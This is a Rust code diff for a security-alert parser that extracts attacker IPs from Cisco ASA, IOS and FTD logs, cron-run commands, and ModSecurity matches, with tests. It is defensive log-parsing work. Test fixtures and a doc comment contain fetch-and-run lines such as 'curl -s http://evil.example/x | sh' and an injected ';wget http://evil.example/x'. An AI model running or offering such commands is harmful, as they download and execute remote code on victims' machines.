@@ -52,7 +52,7 @@ pub(crate) fn client_at_mark(alert: &Alert) -> Option<IpAddr> {
 }
 
 fn client_in(line: &str) -> Option<IpAddr> {
-    const READERS: [fn(&str) -> Option<&str>; 7] = [mysql, postgresql, exim, fail2ban, esxi, fortigate, asa];
+    const READERS: [fn(&str) -> Option<&str>; 9] = [mysql, postgresql, exim, fail2ban, esxi, fortigate, asa, ios, ftd];
     let client = READERS.iter().find_map(|read| read(line))?;
     address::parse(client).map(|(ip, _)| ip)
 }
@@ -131,10 +131,66 @@ fn fortigate(line: &str) -> Option<&str> {
     is_sound.then_some(client.split_once(')')?.0)
 }
 
-/// `%ASA-6-113005: AAA user authentication Rejected : … : user = bob : user IP = 203.0.113.9`, which ends the line.
+/// `%ASA-6-113005: AAA user authentication Rejected : … : user = bob : user IP = 203.0.113.9`, which ends the line, and
+/// `%ASA-4-733101: Host 203.0.113.9 is attacking. …`.
 fn asa(line: &str) -> Option<&str> {
+    if let Some((_, host)) = line.split_once("%ASA-4-733101: Host ") {
+        let (host, does) = host.split_once(' ')?;
+        return does.starts_with("is attacking").then_some(host);
+    }
     let (before, client) = line.rsplit_once(" : user IP = ")?;
     before.contains("%ASA-").then_some(client)
+}
+
+/// `%SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: eve] [Source: 203.0.113.9] [localport: 22] …`: what the client chose stands before it.
+fn ios(line: &str) -> Option<&str> {
+    let (before, client) = line.rsplit_once("] [Source: ")?;
+    let (client, rest) = client.split_once(']')?;
+    (before.contains("%SEC_LOGIN-") && rest.starts_with(" [localport: ")).then_some(client)
+}
+
+/// `%FTD-1-430001: …, SrcIP: 203.0.113.9, DstIP: …`: the ends stand before all that a client may choose.
+fn ftd(line: &str) -> Option<&str> {
+    let (before, client) = line.split_once(" SrcIP: ")?;
+    let client = client.split([',', ' ']).next()?;
+    before.contains("%FTD-").then_some(client)
+}
+
+/// The command that cron ran, as it says itself: `CRON[123]: (root) CMD (curl -s http://evil.example/x | sh)`.
+pub(crate) fn command_of_cron(alert: &Alert) -> Option<&str> {
+    let line = alert.full_log().filter(|line| !is_json(line))?;
+    command_in(line.trim_end())
+}
+
+fn command_in(line: &str) -> Option<&str> {
+    let (head, told) = line.split_once("]: (")?;
+    let (program, _number) = head.rsplit_once('[')?;
+    let program = program.rsplit([' ', '/']).next()?;
+    let is_cron = ["CRON", "crond", "cron"]
+        .iter()
+        .any(|name| name.eq_ignore_ascii_case(program));
+    let (account, command) = told.split_once(") CMD (")?;
+    let command = command.strip_suffix(')')?.trim();
+    let is_sound = is_cron && !head.contains(": ") && !account.contains(char::is_whitespace);
+    (is_sound && !command.is_empty()).then_some(command)
+}
+
+/// What `ModSecurity` found in a request that it takes for an attack which makes a server run or fetch something: rules 931 to 934 and 944 of
+/// the core rule set.
+pub(crate) fn matched_by_modsecurity(alert: &Alert) -> Option<&str> {
+    let line = alert.full_log().filter(|line| !is_json(line))?;
+    matched_in(line)
+}
+
+fn matched_in(line: &str) -> Option<&str> {
+    const KINDS: [&str; 5] = ["931", "932", "933", "934", "944"];
+    let (_, told) = line.split_once(" ModSecurity: ")?;
+    let (_, id) = told.split_once("[id \"")?;
+    let is_attack = KINDS.iter().any(|kind| id.starts_with(kind)) && id.as_bytes().get(6) == Some(&b'"');
+    let (_, data) = told.split_once("[data \"Matched Data: ").filter(|_| is_attack)?;
+    // Quotation marks of the request are written as `\x22`.
+    let data = data.split('"').next()?;
+    Some(data.split_once(" found within ").map_or(data, |(data, _)| data))
 }
 
 /// Says whether a line is an object, or a list of objects, lists or texts: web servers and kernels begin with `[` too.
@@ -288,5 +344,56 @@ mod tests {
         ] {
             assert_eq!(source_in(line), None, "{line}");
         }
+    }
+
+    #[test]
+    fn devices_of_cisco_name_who_came_where_nobody_else_may_write() {
+        for line in [
+            "Jan 20 2026 09:02:17 asa01 : %ASA-4-733101: Host 203.0.113.9 is attacking. Current burst rate is 200 per second",
+            "%SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: a] [Source: 8.8.8.8] [Source: 203.0.113.9] [localport: 22] [Reason: x]",
+            "<113>Jan 20 09:02:17 ftd : %FTD-1-430001: Protocol: tcp, SrcIP: 203.0.113.9, DstIP: 10.1.1.20, URL: SrcIP: 8.8.8.8",
+        ] {
+            assert_eq!(client_in(line), Some("203.0.113.9".parse().unwrap()), "{line}");
+        }
+        for line in [
+            "app: %ASA-4-733101: Host eve is attacking",
+            "%SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: a] [Source: 8.8.8.8] x",
+            "app: SrcIP: 8.8.8.8,",
+        ] {
+            assert_eq!(client_in(line), None, "{line}");
+        }
+    }
+
+    #[test]
+    fn what_cron_ran_is_read_from_its_own_lines() {
+        for line in [
+            "Jan 20 09:02:17 lnx5 CRON[123]: (root) CMD (curl -s http://evil.example/x | (sh))",
+            "Jan 20 09:02:17 lnx5 /usr/sbin/crond[123]: (root) CMD ( curl -s http://evil.example/x | (sh))",
+        ] {
+            assert_eq!(command_in(line), Some("curl -s http://evil.example/x | (sh)"), "{line}");
+        }
+        for line in [
+            "Jan 20 09:02:17 lnx5 app[1]: (root) CMD (x)",
+            "Jan 20 09:02:17 lnx5 app[1]: CRON[123]: (root) CMD (x)",
+            "Jan 20 09:02:17 lnx5 crontab[1]: (root) REPLACE (root)",
+            "CRON[1]: (a b) CMD (x)",
+            "CRON[1]: (root) CMD ()",
+        ] {
+            assert_eq!(command_in(line), None, "{line}");
+        }
+    }
+
+    #[test]
+    fn what_modsecurity_matched_ends_before_where_it_was_found() {
+        let line = |id: &str, data: &str| {
+            format!(
+                r#"[client 203.0.113.9] ModSecurity: Access denied with code 403 (phase 2). [file "/x.conf"] [id "{id}"] [data "{data}"] [uri "/"]"#
+            )
+        };
+        let told = r"Matched Data: ;wget http://evil.example/x found within ARGS:q: 1;wget http://evil.example/x";
+        let found = |id| matched_in(&line(id, told)).map(str::to_owned);
+        assert_eq!(found("932100").as_deref(), Some(";wget http://evil.example/x"));
+        assert_eq!((found("920350"), found("93210"), found("9321000")), (None, None, None));
+        assert_eq!(matched_in(&line("932100", "8.8.8.8")), None);
     }
 }
